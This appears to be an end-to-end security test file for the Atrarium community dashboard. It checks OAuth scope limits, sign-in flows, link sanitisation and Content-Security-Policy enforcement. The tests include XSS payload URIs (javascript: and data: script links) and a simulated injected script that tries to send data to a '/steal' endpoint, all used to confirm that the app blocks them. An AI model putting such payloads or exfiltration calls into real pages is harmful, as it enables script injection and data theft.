/**
 * What signing in to the dashboard grants, on the real sandbox PDS in Chromium (docs/security.md): the
 * PDS's consent page lists Atrarium's precise permissions; the dashboard works with them; the same session
 * used for anything else (a follow, a profile change, deleting a post, a token for another service) is
 * refused by the PDS; a session granted the old whole-account scope is asked once to sign in again. The
 * pages are served under their Content-Security-Policy with no violation, and a post's link facets become
 * links only for http and https. Screenshots go to test-results/permissions/.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { AtpAgent } from '@atproto/api';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium, screenshot } from '../support/browser';
import { API_METHODS } from '../../src/api/methods';
import { approveConsent, setStoredScope, signInWithOAuth, withSession } from '../support/oauth';
import { freeSandboxPorts, startSandboxProcess, type RunningSandbox, type SandboxPorts } from '../support/sandbox-process';

const ARTIFACTS = resolve('test-results/permissions');

let dir: string;
let ports: SandboxPorts;
let sandbox: RunningSandbox;
let browser: Browser;
let dana: Page;
let danaDid: string;
const violations: string[] = [];

beforeAll(async () => {
	dir = await mkdtemp(join(tmpdir(), 'atrarium-permissions-'));
	ports = await freeSandboxPorts();
	sandbox = await startSandboxProcess(dir, ports);
	browser = await launchChromium();
	const agent = new AtpAgent({ service: `http://localhost:${ports.pds}` });
	await agent.createAccount({ handle: 'dana.test', email: 'dana@sandbox.test', password: 'dana-sandbox-pw' });
	danaDid = agent.session!.did;
	dana = await newPage();
}, 180_000);

afterAll(async () => {
	const diagnosis = await sandbox?.diagnoseWorker();
	if (diagnosis) console.error(diagnosis);
	await browser?.close();
	await sandbox?.interrupt();
	await rm(dir, { recursive: true, force: true });
});

async function newPage(): Promise<Page> {
	const page = await (await browser.newContext()).newPage();
	page.setDefaultTimeout(20_000);
	page.on('console', (message) => {
		if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
	});
	return page;
}

const postBy = (page: Page, handle: string, text: string) => page.getByRole('article', { name: `Post by ${handle}` }).filter({ hasText: text });

/** The consent page's table for one permission card: each row's name and the columns it is ticked in. */
async function consentTable(page: Page, card: string): Promise<string[][]> {
	await page
		.getByRole('button', { name: 'Expand details' })
		.nth(card === 'Repository' ? 0 : 1)
		.click();
	const dialog = page.getByRole('dialog', { name: card });
	await dialog.waitFor();
	await screenshot(page, ARTIFACTS, `01-consent-${card.toLowerCase()}`);
	const rows = await dialog
		.locator('tr')
		.evaluateAll((trs) =>
			trs.map((tr) => [...tr.querySelectorAll('td, th')].map((cell) => (cell.textContent?.trim() || (cell.querySelector('svg') ? '✓' : '')) ?? '')),
		);
	await dialog.getByRole('button', { name: 'Close' }).first().click();
	await dialog.waitFor({ state: 'detached' });
	return rows;
}

describe('signing in with OAuth', () => {
	let communityId: string;
	let communityUrl: string;
	let eve: Page;
	let eveDid: string;
	const danaText = `Seed swap on Sunday ${Date.now()}`;

	it("the PDS's consent page lists Atrarium's precise permissions, and nothing of the whole account", async () => {
		await signInWithOAuth(dana, sandbox.url, 'dana.test', 'dana-sandbox-pw', { stopAtConsent: true });
		await screenshot(dana, ARTIFACTS, '01-consent');
		const body = await dana.locator('body').innerText();
		expect(body).toMatch(/Repository\s+Publish changes/);
		expect(body).toMatch(/Authenticate\s+Perform actions on your behalf/);
		expect(body).not.toMatch(/full access|entire account|all of your/i);

		const repository = await consentTable(dana, 'Repository');
		expect(repository).toEqual([
			['Data', 'Create', 'Update', 'Delete'],
			['app.bsky.feed.generator', '✓', '✓', ''],
			['app.bsky.feed.post', '✓', '', ''],
			['net.atrarium.community.config', '✓', '✓', '✓'],
			['net.atrarium.community.membership', '✓', '✓', '✓'],
			['net.atrarium.moderation.action', '✓', '✓', '✓'],
		]);
		const calls = (await consentTable(dana, 'Authenticate')).slice(1).map((row) => row[0]);
		expect(calls.sort()).toEqual([...Object.values(API_METHODS), 'app.bsky.feed.getFeedSkeleton'].sort());
		await approveConsent(dana, sandbox.url, 'dana.test');
	});

	it('the app-password form, the fallback, says what it grants and asks for an app password, not the main one', async () => {
		const page = await newPage();
		await page.goto(`${sandbox.url}/sign-in`);
		const grants = page.getByRole('textbox', { name: 'App password' });
		expect(await page.locator('#password-grants').innerText()).toMatch(
			/^An app password lets this dashboard do anything in your account except change its settings \(email, password, deletion\), where signing in with your provider above allows only Atrarium's own records, new posts, publishing community feeds and Atrarium's service\. Create one just for Atrarium .* Never type your main password here\.$/,
		);
		expect(await grants.getAttribute('aria-describedby')).toBe('password-grants');
	});

	it('every dashboard action works with these permissions: create, publish, post, join, report, moderate, leave', async () => {
		await dana.getByRole('link', { name: 'Create a community' }).click();
		await dana.getByLabel('Name').fill('Seed Savers');
		await dana.getByRole('button', { name: 'Create community' }).click();
		await dana.getByRole('heading', { name: 'Seed Savers is ready' }).waitFor();
		// Published: the feed generator record is in Dana's repo.
		expect(await dana.locator('code.uri').textContent()).toMatch(/^at:\/\/did:plc:[a-z2-7]+\/app\.bsky\.feed\.generator\/[0-9a-f]{8}$/);
		await dana.getByRole('link', { name: 'Go to Seed Savers' }).click();
		communityUrl = dana.url();
		communityId = new URL(communityUrl).pathname.split('/')[2]!;
		await dana.getByLabel('Write a post').fill(danaText);
		await dana.getByRole('button', { name: 'Post', exact: true }).click();
		await dana.getByText('Posted to your PDS.').waitFor();
		await postBy(dana, 'dana.test', danaText).waitFor();

		const agent = new AtpAgent({ service: `http://localhost:${ports.pds}` });
		await agent.createAccount({ handle: 'eve.test', email: 'eve@sandbox.test', password: 'eve-sandbox-pw' });
		eveDid = agent.session!.did;
		eve = await newPage();
		await signInWithOAuth(eve, sandbox.url, 'eve.test', 'eve-sandbox-pw');
		await eve.goto(communityUrl);
		await eve.getByRole('button', { name: 'Join', exact: true }).click();
		await eve.getByText('You joined Seed Savers.').waitFor();
		const eveText = `Tomato seeds to give away ${Date.now()}`;
		await eve.getByLabel('Write a post').fill(eveText);
		await eve.getByRole('button', { name: 'Post', exact: true }).click();
		await postBy(eve, 'eve.test', eveText).waitFor();
		await postBy(eve, 'dana.test', danaText).getByRole('button', { name: 'Report post' }).click();
		await eve.getByLabel('Reason').selectOption('spam');
		await eve.getByRole('button', { name: 'Report to moderators' }).click();
		await eve.getByText("Reported to the community's moderators.").waitFor();

		// Dana reads and dismisses the report, hides Eve's post, blocks and unblocks her.
		await dana.goto(`${communityUrl}/moderation`);
		const reported = dana.getByRole('listitem', { name: /^1 report on / });
		await reported.getByRole('button', { name: 'Dismiss' }).click();
		await dana.getByText('No reports').waitFor();
		await dana.goto(communityUrl);
		await postBy(dana, 'eve.test', eveText).getByRole('button', { name: 'Hide post' }).click();
		await dana.getByRole('button', { name: 'Hide this post' }).click();
		await postBy(dana, 'eve.test', eveText).waitFor({ state: 'detached' });
		await dana.goto(`${communityUrl}/members`);
		const member = dana.getByRole('listitem').filter({ hasText: '@eve.test' });
		await member.getByRole('button', { name: 'Block', exact: true }).click();
		await dana.getByRole('button', { name: 'Block this member' }).click();
		await member.getByRole('button', { name: 'Unblock' }).click();
		await member.getByRole('button', { name: 'Block', exact: true }).waitFor();

		await eve.reload();
		await eve.getByRole('button', { name: 'Leave' }).click();
		await eve.getByText('You left Seed Savers.').waitFor();
		const community = (await (await fetch(`${sandbox.url}/api/communities/${communityId}`)).json()) as { members: number; posts: number };
		expect(community).toMatchObject({ members: 1, posts: 1 });
	});

	it('the same session cannot follow, change the profile, delete a post, or get a token for another service: the PDS refuses', async () => {
		// The session works for what it was granted (this is how the dashboard writes)...
		const allowed = await withSession(dana, danaDid, {
			method: 'POST',
			path: '/xrpc/com.atproto.repo.createRecord',
			body: {
				repo: danaDid,
				collection: 'app.bsky.feed.post',
				record: { $type: 'app.bsky.feed.post', text: 'written with the session', createdAt: new Date().toISOString() },
			},
		});
		expect(allowed.status).toBe(200);
		const rkey = String(allowed.body.uri).split('/').pop()!;

		const refused = {
			follow: await withSession(dana, danaDid, {
				method: 'POST',
				path: '/xrpc/com.atproto.repo.createRecord',
				body: {
					repo: danaDid,
					collection: 'app.bsky.graph.follow',
					record: { $type: 'app.bsky.graph.follow', subject: eveDid, createdAt: new Date().toISOString() },
				},
			}),
			profile: await withSession(dana, danaDid, {
				method: 'POST',
				path: '/xrpc/com.atproto.repo.putRecord',
				body: { repo: danaDid, collection: 'app.bsky.actor.profile', rkey: 'self', record: { $type: 'app.bsky.actor.profile', displayName: 'Not Dana' } },
			}),
			deletePost: await withSession(dana, danaDid, {
				method: 'POST',
				path: '/xrpc/com.atproto.repo.deleteRecord',
				body: { repo: danaDid, collection: 'app.bsky.feed.post', rkey },
			}),
			otherService: await withSession(dana, danaDid, {
				method: 'GET',
				path: `/xrpc/com.atproto.server.getServiceAuth?${new URLSearchParams({ aud: 'did:web:elsewhere.example#atrarium_api', lxm: 'net.atrarium.api.hidePost' })}`,
			}),
			otherMethod: await withSession(dana, danaDid, {
				method: 'GET',
				path: `/xrpc/com.atproto.server.getServiceAuth?${new URLSearchParams({ aud: `did:web:localhost%3A${ports.worker}#atrarium_api`, lxm: 'com.atproto.admin.getAccountInfo' })}`,
			}),
			blob: await withSession(dana, danaDid, { method: 'POST', path: '/xrpc/com.atproto.repo.uploadBlob', body: { not: 'an image' } }),
		};
		for (const [what, result] of Object.entries(refused)) {
			expect(result.status, `${what}: ${JSON.stringify(result.body)}`).toBe(403);
			expect(result.body.error, what).toBe('ScopeMissingError');
		}
		const post = await fetch(
			`http://localhost:${ports.pds}/xrpc/com.atproto.repo.getRecord?${new URLSearchParams({ repo: danaDid, collection: 'app.bsky.feed.post', rkey })}`,
		);
		expect(post.status).toBe(200);
	});

	it('a session granted the old whole-account scope is asked once to sign in again, and nothing is lost', async () => {
		await setStoredScope(dana, danaDid, 'atproto transition:generic');
		await dana.goto(communityUrl);
		await dana.getByText(/Please sign in again: Atrarium now asks for less access to your account/).waitFor();
		expect(new URL(dana.url()).pathname).toBe('/sign-in');
		expect(await dana.getByTestId('signed-in-as').count()).toBe(0);
		await screenshot(dana, ARTIFACTS, '02-sign-in-again');
		await signInWithOAuth(dana, sandbox.url, 'dana.test', 'dana-sandbox-pw', { onSignInPage: true });
		// Back where she was.
		await dana.waitForURL(communityUrl);
		await dana.goto(communityUrl);
		await dana.getByText('You own this community').waitFor();
		await postBy(dana, 'dana.test', danaText).waitFor();
		// Signed in again with the new permissions: a reload keeps her signed in (asked once, not every time).
		await dana.reload();
		await dana.getByTestId('signed-in-as').getByText('@dana.test').waitFor();
		await dana.getByText('You own this community').waitFor();
	});

	it('a sign-in the PDS grants less than asked is not kept, and the page says to use an app password instead', async () => {
		// A PDS without granular permissions drops the scopes it does not know: here the token response says so.
		const page = await newPage();
		await page.route('**/oauth/token', async (route) => {
			const response = await route.fetch();
			const body = (await response.json()) as { scope?: string };
			await route.fulfill({ response, json: { ...body, scope: 'atproto' } });
		});
		await page.goto(`${sandbox.url}/sign-in?return=${encodeURIComponent(`/c/${communityId}/members`)}`);
		await signInWithOAuth(page, sandbox.url, 'eve.test', 'eve-sandbox-pw', { onSignInPage: true, stopAtConsent: true });
		await page.getByRole('button', { name: 'Authorize' }).click();
		await page.getByText(/did not grant all the permissions Atrarium asks for .* Sign in with an app password instead/).waitFor();
		expect(await page.getByTestId('signed-in-as').count()).toBe(0);
		// Where the person was going is kept for the app-password sign-in.
		expect(new URL(page.url()).searchParams.get('return')).toBe(`/c/${communityId}/members`);
		await screenshot(page, ARTIFACTS, '03-not-granted');
	});

	it('shows a link facet as a link only for http and https', async () => {
		const agent = new AtpAgent({ service: `http://localhost:${ports.pds}` });
		await agent.login({ identifier: 'dana.test', password: 'dana-sandbox-pw' });
		const parts = ['safe link', 'script link', 'data link', `#atr_${communityId}`];
		const text = parts.join(' ');
		const bytes = (part: string) => {
			const start = Buffer.byteLength(text.slice(0, text.indexOf(part)));
			return { byteStart: start, byteEnd: start + Buffer.byteLength(part) };
		};
		const link = (part: string, uri: string) => ({ index: bytes(part), features: [{ $type: 'app.bsky.richtext.facet#link', uri }] });
		await agent.post({
			text,
			facets: [
				link('safe link', 'https://example.com/seeds'),
				link('script link', 'javascript:alert(document.domain)'),
				link('data link', 'data:text/html,<script>alert(1)</script>'),
				{ index: bytes(`#atr_${communityId}`), features: [{ $type: 'app.bsky.richtext.facet#tag', tag: `atr_${communityId}` }] },
			],
		});
		await dana.goto(communityUrl);
		const post = postBy(dana, 'dana.test', 'script link');
		await post.waitFor();
		await post.getByRole('link', { name: 'safe link' }).waitFor();
		expect(await post.getByRole('link', { name: 'safe link' }).getAttribute('href')).toBe('https://example.com/seeds');
		expect(await post.getByRole('link', { name: 'script link' }).count()).toBe(0);
		expect(await post.getByRole('link', { name: 'data link' }).count()).toBe(0);
		await post.getByText('script link').waitFor();
		expect(await dana.locator('a[href^="javascript:"], a[href^="data:"]').count()).toBe(0);
	});

	it('serves every page under its Content-Security-Policy, with no violation in any test above; a script from elsewhere cannot run', async () => {
		const res = await fetch(`${sandbox.url}/c/${communityId}`);
		const csp = res.headers.get('content-security-policy') ?? '';
		expect(csp).toMatch(/default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self' /);
		expect(csp).toContain("frame-ancestors 'none'");
		expect(res.headers.get('x-frame-options')).toBe('DENY');
		expect(res.headers.get('referrer-policy')).toBe('no-referrer');
		expect(res.headers.get('x-content-type-options')).toBe('nosniff');
		await res.arrayBuffer();
		expect(violations).toEqual([]);

		// What an injected script would try: inline code, and a request to an origin the policy does not name.
		const page = await newPage();
		await page.goto(communityUrl);
		await page.getByRole('heading', { name: 'Seed Savers' }).waitFor();
		const outcome = await page.evaluate(async () => {
			const inline = document.createElement('script');
			inline.textContent = 'window.__inlineRan = true';
			document.body.append(inline);
			const exfiltrated = await fetch('http://127.0.0.1:9/steal').then(
				() => 'sent',
				() => 'blocked',
			);
			return { inlineRan: (window as { __inlineRan?: boolean }).__inlineRan === true, exfiltrated };
		});
		expect(outcome).toEqual({ inlineRan: false, exfiltrated: 'blocked' });
		await expect.poll(() => violations.length).toBeGreaterThanOrEqual(2);
		// And no page may frame the dashboard.
		const framer = await newPage();
		await framer.setContent(`<iframe src="${communityUrl}"></iframe>`);
		await expect.poll(async () => framer.frames()[1]?.url() ?? '').not.toBe('');
		expect(
			await framer
				.frames()[1]!
				.locator('body')
				.innerText()
				.catch(() => ''),
		).not.toContain('Seed Savers');
	});
});
